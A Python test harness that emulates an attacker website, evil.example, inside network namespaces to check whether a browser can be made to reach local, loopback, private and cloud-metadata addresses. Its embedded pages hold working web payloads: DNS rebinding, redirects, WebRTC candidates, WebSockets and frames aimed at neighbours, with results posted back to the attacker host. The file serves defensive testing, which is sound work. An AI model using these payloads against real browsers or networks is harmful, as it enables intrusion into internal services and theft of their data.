"""`neighbours.py FOLDER COMMAND…`: run COMMAND on a machine that has neighbours and is connected to a web.

Run it in fresh network, mount and process namespaces, which are the machine. The web is in another network, connected
by a pair of devices. Its only public server is evil.example, whose pages try to reach all other servers: one page over
plain HTTP, and one over TLS, with a certificate of this machine's authority. The page over TLS tries more ways.
FOLDER/arrivals has a line for each request to the others (its address and first line), for each datagram (its sender
and port), and for each packet that leaves the machine for any address except the public server's, answered or not.
FOLDER/requests has the requests to evil.example. The exit status is that of COMMAND.
"""

import json
import os
import select
import socket
import ssl
import subprocess
import sys
import threading
from ipaddress import ip_address
from pathlib import Path
from string import Template

from base.places import tool
from base.text import printable
from servers.certificates import certify, machine_ca

EVIL, MACHINE = "11.22.33.1", "11.22.33.2"
LAN, METADATA, UNIQUE_LOCAL = "10.9.9.9", "169.254.169.254", "fd00:9::9"
PORT = 8001

WEB_ADDRESSES = (f"{EVIL}/24", f"{LAN}/24", f"{METADATA}/16", f"{UNIQUE_LOCAL}/64")
MACHINE_ADDRESSES = (f"{MACHINE}/24", "10.9.9.2/24", "169.254.1.1/16", "fd00:9::2/64")
HOSTS = {
    "evil.example": EVIL,
    "machine.example": "127.0.0.1",
    "machine6.example": "::1",
    "mapped.example": "::ffff:127.0.0.1",
    "lan.example": LAN,
    "rebound.example": EVIL,
}
# After its first lookup, the attacker makes this name point to a neighbour.
REBOUND = "rebound.example"

# Each URL leads to a neighbour, or to a server of the machine itself.
ATTEMPTS = (
    f"http://127.0.0.1:{PORT}/",
    f"http://127.8.9.10:{PORT}/",
    f"http://2130706433:{PORT}/",
    f"http://localhost:{PORT}/",
    f"http://[::1]:{PORT}/",
    f"http://[::ffff:127.0.0.1]:{PORT}/",
    f"http://machine.example:{PORT}/",
    f"http://machine6.example:{PORT}/",
    f"http://mapped.example:{PORT}/",
    f"http://{MACHINE}:{PORT}/",
    f"http://{LAN}/",
    "http://lan.example/",
    f"http://{METADATA}/latest/meta-data/",
    f"http://[{UNIQUE_LOCAL}]/",
    "http://evil.example/redirect",
)
PAGE = f"""<!doctype html><title>Evil</title><img src=http://lan.example/image><script>
const attempts = {list(ATTEMPTS)!r}.map(url => fetch(url, {{mode: "no-cors"}}));
attempts.push(fetch("http://lan.example/post", {{method: "POST", mode: "no-cors", body: "x"}}));
attempts.push(new Promise(resolve => new WebSocket("ws://lan.example/socket").onerror = resolve));
Promise.allSettled(attempts).then(() => fetch("/done"));
</script>
"""


# The same URLs over TLS, since the page over TLS may request no others, and URLs with addresses that nobody has.
SECURE_ATTEMPTS = (
    *(url.replace("http://", "https://") for url in ATTEMPTS),
    "https://evil.example/redirect-to-lan",
    "https://192.168.1.1/",
    "https://172.16.0.1:8443/",
    "https://[fe80::1]/",
    f"https://[::ffff:{LAN}]/",
    f"https://{REBOUND}:{PORT}/",
)
# The URLs that WebSockets and WebTransport try. They are few, since Chromium delays a page's further connections of
# these kinds for long.
FEW_ATTEMPTS = (f"https://{LAN}/", f"https://127.0.0.1:{PORT}/", f"https://[{UNIQUE_LOCAL}]/", "https://lan.example/")
# The URLs that frames try, since each frame of another server takes a process of its own in Chromium, to start and to
# end. They lead to neighbours by address, by name, and by a redirect, and one of them not over TLS.
FRAMES = (
    *FEW_ATTEMPTS,
    f"https://{METADATA}/latest/meta-data/",
    f"https://{MACHINE}:{PORT}/",
    f"http://{LAN}/",
    "https://evil.example/redirect",
    "https://evil.example/redirect-to-lan",
)
# The hosts that WebRTC is told to contact, over UDP, TCP and TLS, and at which its peer is claimed to be.
ICE_HOSTS = (LAN, METADATA, f"[{UNIQUE_LOCAL}]", "127.0.0.1", "[::1]", MACHINE)
ICE_SERVERS = [
    {"urls": f"{scheme}:{host}:{PORT}{transport}", "username": "x", "credential": "x"}
    for host in ICE_HOSTS
    for scheme, transport in (("stun", ""), ("turn", ""), ("turn", "?transport=tcp"), ("turns", "?transport=tcp"))
]
CANDIDATES = [
    f"candidate:1 1 {kind} 2122260223 {host.strip('[]')} {PORT} typ host{more}"
    for host in ICE_HOSTS
    for kind, more in (("udp", ""), ("tcp", " tcptype passive"))
]
# The body of the page's last request reports the outcome of each attempt.
SECURE_PAGE = Template("""<!doctype html><title>Evil</title><h1>Evil</h1>
<link rel=preconnect href=https://$lan/><link rel=dns-prefetch href=//lan.example/>
<script type=speculationrules>{"prefetch": [{"urls": ["https://$lan/prefetched"], "eagerness": "immediate"}]}</script>
<link rel=preload as=image href=https://$lan/preloaded>
<script>
const urls = $urls, few = $few, outcomes = {};
const element = (name, url) => document.body.append(Object.assign(document.createElement(name), {src: url}));
const socket = url => new Promise((resolve, reject) => {
  const socket = new WebSocket(url.replace("http", "ws"));
  socket.onopen = resolve;
  socket.onerror = reject;
});
const transport = async url => { await new WebTransport(url).ready; };
const note = (how, url, attempt) => attempt.then(
  () => outcomes[how + " " + url] = "reached", () => outcomes[how + " " + url] = "refused");
const rtc = async () => {
  const [one, other] = [0, 1].map(() => new RTCPeerConnection({iceServers: $ice}));
  one.createDataChannel("x");
  const gathered = new Promise(resolve => one.onicegatheringstatechange =
    () => one.iceGatheringState == "complete" && resolve());
  await one.setLocalDescription();
  await other.setRemoteDescription(one.localDescription);
  await other.setLocalDescription();
  await one.setRemoteDescription(other.localDescription);
  for (const candidate of $candidates) await one.addIceCandidate({candidate, sdpMid: "0"});
  await Promise.race([gathered, new Promise(resolve => setTimeout(resolve, 2000))]);
};
(async () => {
  fetch("/held");
  await fetch("https://$rebound/", {mode: "no-cors"});
  urls.forEach(url => ["img", "script"].forEach(name => element(name, url)));
  $frames.forEach(url => element("iframe", url));
  await Promise.all([
    ...urls.map(url => note("fetch", url, fetch(url, {mode: "no-cors"}))),
    ...few.map(url => note("WebSocket", url, socket(url))),
    ...few.map(url => note("WebTransport", url, transport(url))),
    note("WebRTC", "", rtc()),
  ]);
  navigator.sendBeacon("https://$lan/beacon", "x");
  await fetch("/done", {method: "POST", body: JSON.stringify(outcomes)});
})();
</script>
""").substitute(
    lan=LAN,
    rebound=REBOUND,
    urls=json.dumps([*ATTEMPTS, *SECURE_ATTEMPTS]),
    few=json.dumps(FEW_ATTEMPTS),
    frames=json.dumps(FRAMES),
    ice=json.dumps(ICE_SERVERS),
    candidates=json.dumps(CANDIDATES),
)
# A visit ends when nothing has been under way for a while, and refused attempts may take longer on a busy machine. So
# the page over TLS requests something that is answered when it is done.
DONE = threading.Semaphore(0)
# A visit has a shorter limit. Without one here, the thread of a visit that failed would take the next visit's end.
LONGEST_VISIT_S = 300
# The alternative addresses over QUIC that the server announces.
ALTERNATIVE = f'h3="{LAN}:443", h3="127.0.0.1:{PORT}"'


def answer_of(address: str, path: str, *, secure: bool = False) -> bytes:
    """The response of the server at `address` to a request for `path`."""
    if address != EVIL:
        head, body = "200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/plain", "a neighbour's secret"
    elif path == "/redirect":
        head, body = f"302 Found\r\nLocation: http://127.0.0.1:{PORT}/redirected", ""
    elif path == "/redirect-to-lan":
        head, body = f"302 Found\r\nLocation: https://{LAN}/redirected", ""
    else:
        page = SECURE_PAGE if secure else PAGE
        head, body = "200 OK\r\nContent-Type: text/html", page if path == "/" else "x"
    alternative = f"Alt-Svc: {ALTERNATIVE}\r\n" if secure else ""
    return f"HTTP/1.1 {head}\r\n{alternative}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}".encode()


def serve(folder: Path, host: str, port: int, tls: ssl.SSLContext | None = None) -> None:
    """Answer on `port` of `host`, in threads, until this process ends."""
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    server = socket.create_server((host, port), family=family, dualstack_ipv6=host == "::")

    def answer(connection: socket.socket) -> None:
        address = connection.getsockname()[0].removeprefix("::ffff:")
        try:
            with tls.wrap_socket(connection, server_side=True) if tls else connection as stream:
                request = read_request(stream)
                first_line = request.partition("\r")[0]
                if address != EVIL:
                    note(folder / "arrivals", f"{address} {first_line}")
                else:
                    host = request.partition("\nHost: ")[2].partition("\r")[0]
                    body = request.partition("\r\n\r\n")[2]
                    note(folder / "requests", f"{host} {first_line} {body}")
                    if host == REBOUND:
                        write_hosts(folder, {**HOSTS, REBOUND: LAN})
                path = request.split(" ")[1] if " " in request else "/"
                if path == "/done":
                    DONE.release()
                elif path == "/held":
                    DONE.acquire(timeout=LONGEST_VISIT_S)
                stream.sendall(answer_of(address, path, secure=tls is not None))
        except OSError:  # a browser may open a connection and abandon it
            pass

    def accept() -> None:
        while True:
            threading.Thread(target=answer, args=(server.accept()[0],), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()


def read_request(stream: socket.socket) -> str:
    """A request with its body, or whatever else was sent first."""
    request = stream.recv(65536)
    head, _, body = request.partition(b"\r\n\r\n")
    _, _, length = head.lower().partition(b"content-length: ")
    missing = int(length.split(b"\r\n")[0]) - len(body) if length else 0
    while missing > 0 and (part := stream.recv(65536)):
        request += part
        missing -= len(part)
    return request.decode("latin-1")


def note(file: Path, line: str) -> None:
    with file.open("a") as lines:
        lines.write(printable(line) + "\n")


def note_datagrams(folder: Path, port: int) -> None:
    """Log the datagrams that arrive at `port` of this machine over UDP, until this process ends."""
    receiver = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    receiver.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    receiver.bind(("::", port))

    def receive() -> None:
        while True:
            _, (sender, *_) = receiver.recvfrom(65536)
            note(folder / "arrivals", f"{sender.removeprefix('::ffff:')} a datagram to port {port}")

    threading.Thread(target=receive, daemon=True).start()


def note_packets(folder: Path, packets: socket.socket) -> None:
    """Log the packets to other addresses than EVIL, until standard input ends.

    The kernel's own packets for neighbour discovery and group membership (ICMPv6, IGMP) are not a page's, and are
    ignored.
    """
    packets.setblocking(False)
    while True:
        readable, _, _ = select.select([packets, sys.stdin], [], [])
        if packets not in readable:
            return
        packet, (_, kind, direction, *_) = packets.recvfrom(65536)
        if direction == socket.PACKET_OUTGOING:  # a packet of this process
            continue
        if kind == 0x0800 and packet[9] != socket.IPPROTO_IGMP and (to := str(ip_address(packet[16:20]))) != EVIL:
            note(folder / "arrivals", f"{to} a packet of protocol {packet[9]}")
        elif kind == 0x86DD and packet[6] not in (socket.IPPROTO_HOPOPTS, socket.IPPROTO_ICMPV6):
            note(folder / "arrivals", f"{ip_address(packet[24:40])} a packet of protocol {packet[6]}")


def set_up(device: str, addresses: tuple[str, ...], *more: str) -> None:
    lines = ["link set lo up", f"link set {device} up"]
    lines += [f"address add {address} dev {device} {'nodad' if ':' in address else ''}" for address in addresses]
    subprocess.run([tool("ip"), "-batch", "-"], input="\n".join([*lines, *more]), text=True, check=True)


def write_hosts(folder: Path, hosts: dict[str, str]) -> None:
    """Make names resolve to `hosts` from now on.

    The file is rewritten in place, since it is mounted, and is never empty, since others read it meanwhile.
    """
    lines = ["127.0.0.1 localhost", *(f"{address} {name}" for name, address in hosts.items())]
    (folder / "hosts").touch()
    with (folder / "hosts").open("r+") as file:
        file.write("\n".join(lines) + "\n")
        file.truncate()


def be_the_web(folder: Path) -> None:
    """Run the servers of the web's network until standard input ends."""
    print("there", flush=True)
    sys.stdin.readline()
    set_up("there", WEB_ADDRESSES)
    for address in (EVIL, LAN, METADATA, UNIQUE_LOCAL):
        serve(folder, address, 80)
    certificate = certify(machine_ca(), {EVIL: ("evil.example", REBOUND)}, folder)[EVIL]
    tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    tls.load_cert_chain(certificate.chain, certificate.key)
    serve(folder, EVIL, 443, tls)
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.ntohs(0x0003)) as packets:
        packets.bind(("there", 0x0003))
        print("up", flush=True)
        note_packets(folder, packets)


def main(folder: Path, command: list[str]) -> int:
    (folder / "arrivals").touch()
    write_hosts(folder, HOSTS)
    subprocess.run([tool("mount"), "--bind", folder / "hosts", "/etc/hosts"], check=True)
    web: list[str | Path] = [tool("unshare"), "--net", sys.executable, __file__, "--web", folder]
    with subprocess.Popen(web, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdin and process.stdout
        process.stdout.readline()
        pair = f"link add name here type veth peer name there netns {process.pid}"
        subprocess.run([tool("ip"), *pair.split()], check=True)
        # Packets to addresses without a route also leave the machine towards the web.
        set_up("here", MACHINE_ADDRESSES, f"route add default via {EVIL}", "route add ::/0 dev here")
        print(file=process.stdin, flush=True)
        process.stdout.readline()
        serve(folder, "::", PORT)
        note_datagrams(folder, PORT)
        status = subprocess.run(command, check=False).returncode
        process.stdin.close()
    return status


if __name__ == "__main__":
    os.umask(0o022)
    if sys.argv[1] == "--web":
        be_the_web(Path(sys.argv[2]))
    else:
        sys.exit(main(Path(sys.argv[1]), sys.argv[2:]))
